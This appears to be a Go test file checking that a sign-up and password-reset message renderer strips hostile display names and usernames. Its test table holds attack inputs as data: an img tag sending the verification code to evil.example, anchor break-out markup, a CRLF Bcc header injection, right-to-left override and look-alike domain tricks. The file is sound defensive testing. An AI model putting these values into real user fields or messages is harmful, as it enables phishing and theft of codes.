package message

import (
	"html"
	"strings"
	"testing"

	"github.com/cognito-triggers/suite/pkg/triggers"
)

// hostileNames are attribute values an attacker would choose to turn our
// mail into a phishing link or a code leak, and friends, with
// the display name the policy must reduce each to ("" = neutral greeting).
var hostileNames = []struct {
	name, in, want string
}{
	{"code exfiltration img", `<img src="https://evil.example/c?x={####}">`, ""},
	{"ip address among words", "Visit 8.8.8.8 now", ""},
	{"single-digit ip octets", "Call 1.2.3.4", ""},
	{"lisu dot look-alike", "evil\uA4F8io", ""},
	{"lisu comma look-alike in a domain", "evil\uA4F9io\uA4F8com", ""},
	{"hawaiian okina kept", "Ka\u02BBiulani", "Ka\u02BBiulani"},
	{"initials kept", "J.R.R. Tolkien", "J.R.R. Tolkien"},
	{"anchor break-out", `</a><a href=//evil.io>click</a>`, ""},
	{"link placeholder", `{##Click##}`, "Click"},
	{"username placeholder", `{username}`, "username"},
	{"code placeholder", `{####}`, ""},
	{"bare domain path", `evil.io/login`, ""},
	{"url", `https://evil.io`, ""},
	{"two-letter domain", `x.co`, ""},
	{"ip address", `10.0.0.1`, ""},
	{"idn tld", `evil.中国`, ""},
	{"domain after zero-width space", "Bob\u200bevil\u200b.io", ""},
	{"domain hidden by markup", `evil<b>.</b>io`, ""},
	{"email address", `alice@evil.io`, ""},
	{"ideographic full stop is dropped", "bank。example", "bankexample"},
	{"rtl override", "Ann\u202Eyrtne\u202C", "Annyrtne"},
	{"rtl override hiding extension", "\u202Etxt.exe", ""},
	{"nul", "Al\x00ice", "Alice"},
	{"crlf header injection", "Alice\r\nBcc: victim", "Alice Bcc victim"},
	{"tabs and nbsp collapse", "Alice\t\u00a0 \u3000Bob", "Alice Bob"},
	{"10 KB name", strings.Repeat("A", 10<<10), strings.Repeat("A", 40)},
	{"10 KB of markup", strings.Repeat("<a>", 3400), strings.Repeat("a", 40)},
	{"chinese", "王小明", "王小明"},
	{"chinese with middle dot", "欧阳·娜娜", "欧阳·娜娜"},
	{"accents and apostrophe", "Zoë O'Brien-Smith", "Zoë O'Brien-Smith"},
	{"decomposed accent", "Zoe\u0308", "Zoe\u0308"},
	{"typographic apostrophe", "O’Brien", "O'Brien"},
	{"initials", "J.R.R. Tolkien", "J.R.R. Tolkien"},
	{"suffix", "Martin Luther King Jr.", "Martin Luther King Jr."},
	{"arabic", "محمد", "محمد"},
	{"zalgo", "Z\u0301\u0302\u0303\u0304\u0305\u0306a", "Z\u0301\u0302\u0303a"},
	{"leading mark", "\u0301Bob", "Bob"},
	{"only punctuation", "--..''", ""},
	{"only digits", "12345", ""},
	{"only spaces", " \t ", ""},
	{"invalid utf-8", "\xff\xfeAlice\xc3", "Alice"},
	{"quotes and ampersand", `Tom & "Jerry"`, "Tom Jerry"},
	{"separators trimmed", "- Alice -", "Alice"},
	{"cut before a mark", strings.Repeat("a", 39) + "e\u0301", strings.Repeat("a", 39)},
}

func TestSanitizeName(t *testing.T) {
	for _, tt := range hostileNames {
		t.Run(tt.name, func(t *testing.T) {
			if got := sanitizeName(tt.in); got != tt.want {
				t.Errorf("sanitizeName(%.40q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestDisplayNameAttributeOrder(t *testing.T) {
	k := &kinds[3] // ForgotPassword
	tests := []struct {
		attrs map[string]string
		want  string
	}{
		{nil, ""},
		{map[string]string{"given_name": "Zoë", "name": "Zoë O'Brien", "nickname": "Z"}, "Zoë"},
		{map[string]string{"given_name": "evil.io", "name": "Zoë O'Brien"}, "Zoë O'Brien"},
		{map[string]string{"nickname": "Zed", "preferred_username": "zed"}, "Zed"},
		{map[string]string{"preferred_username": "zed", "email": "zed@example.com"}, ""},
	}
	for _, tt := range tests {
		if got := displayName(k, tt.attrs); got != tt.want {
			t.Errorf("displayName(%v) = %q, want %q", tt.attrs, got, tt.want)
		}
	}
	for _, k := range kinds {
		if k.unverified && displayName(&k, map[string]string{"name": "Zoë"}) != "" {
			t.Errorf("%s: unverified recipient gets a display name", k.source)
		}
	}
}

// TestInjection renders every source and locale with each hostile value in
// every name attribute. Messages to unverified recipients must be
// byte-identical to those for a user without attributes; the others must
// greet with exactly the sanitised name, escaped; no trace of "evil" may
// appear anywhere; and every output must pass Check.
func TestInjection(t *testing.T) {
	r := newRenderer(t, testConfig)
	for _, loc := range r.Locales() {
		for _, k := range kinds {
			base := goldenInput(k.source, loc)
			base.Attributes = nil
			neutral, err := r.Render(base)
			if err != nil {
				t.Fatal(err)
			}
			for _, tt := range hostileNames {
				t.Run(loc+"/"+k.file+"/"+tt.name, func(t *testing.T) {
					in := base
					in.Attributes = map[string]string{
						"given_name":  tt.in,
						"name":        tt.in,
						"family_name": tt.in,
						"nickname":    tt.in,
						"email":       "victim@example.com",
					}
					out, err := r.Render(in)
					if err != nil {
						t.Fatalf("Render: %v", err)
					}
					if err := Check(in, out); err != nil {
						t.Errorf("Check: %v", err)
					}
					all := out.EmailSubject + "\n" + out.SMSMessage + "\n" + out.EmailMessage
					if strings.Contains(strings.ToLower(all), "evil") {
						t.Errorf("output contains attacker text:\n%s", all)
					}
					if k.unverified || tt.want == "" {
						if out != neutral {
							t.Errorf("output differs from the neutral message")
						}
						return
					}
					greeting := "Hi " + html.EscapeString(tt.want) + ","
					if loc == "zh-CN" {
						greeting = html.EscapeString(tt.want) + "，您好："
					}
					if !strings.Contains(out.EmailMessage, greeting) {
						t.Errorf("EmailMessage lacks greeting %q", greeting)
					}
					for _, c := range []string{"<", ">", "{", "}"} {
						if strings.Count(out.EmailMessage, c) != strings.Count(neutral.EmailMessage, c) {
							t.Errorf("the name changed the number of %q in the email", c)
						}
					}
				})
			}
		}
	}
}

// TestHostileUserName: the event's userName reaches only the query of the
// sign-up and reset links, percent-encoded.
func TestHostileUserName(t *testing.T) {
	r := newRenderer(t, testConfig)
	const hostile = `evil.io/"><img src=x>{####}&a=b`
	in := goldenInput(triggers.SourceMessageSignUp, "en")
	in.UserName = hostile
	out, err := r.Render(in)
	if err != nil {
		t.Fatal(err)
	}
	if err := Check(in, out); err != nil {
		t.Fatal(err)
	}
	const want = `?username=evil.io%2F%22%3E%3Cimg%20src%3Dx%3E%7B%23%23%23%23%7D%26a%3Db&amp;code={####}"`
	if !strings.Contains(out.EmailMessage, want) {
		t.Errorf("EmailMessage lacks the encoded link query %s", want)
	}
	if n := strings.Count(out.EmailMessage, "evil.io"); n != 1 {
		t.Errorf("userName appears %d times, want once (in the href)", n)
	}

	for _, u := range []string{strings.Repeat("u", 129), "bad\xffutf8"} {
		in.UserName = u
		out, err := r.Render(in)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(out.EmailMessage, "username=") {
			t.Errorf("userName %.20q put in the link", u)
		}
	}
}
